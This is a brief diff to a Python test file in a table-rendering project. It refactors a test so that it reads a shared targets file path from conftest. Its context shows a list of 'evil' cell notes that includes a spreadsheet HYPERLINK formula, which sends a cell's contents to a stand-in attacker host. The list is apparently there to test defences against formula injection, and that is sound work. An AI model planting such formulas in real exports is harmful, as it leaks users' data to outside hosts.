@@ -25,7 +25,7 @@ from jianyian.render.tables import (
 )
 from jianyian.views.ledger import Column
 
-from .conftest import monthly, runner
+from .conftest import REAL_TARGETS, monthly, runner
 
 EVIL_NOTES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
@@ -151,7 +151,7 @@ def test_huge_value_is_a_located_error(make_project, value):
 
 def test_largest_values_add_up_without_overflow(make_project, tmp_path):
     """Five parts at the bound, a target near zero: JSON stays standard, nothing crashes."""
-    targets = (Path(__file__).parents[1] / "data/targets.yaml").read_text("utf-8")
+    targets = REAL_TARGETS.read_text("utf-8")
     targets = targets.replace("target: 8500, measure: 亿元", "target: 1e-300, measure: 亿元")
     assert "1e-300" in targets
     parts = ", ".join(
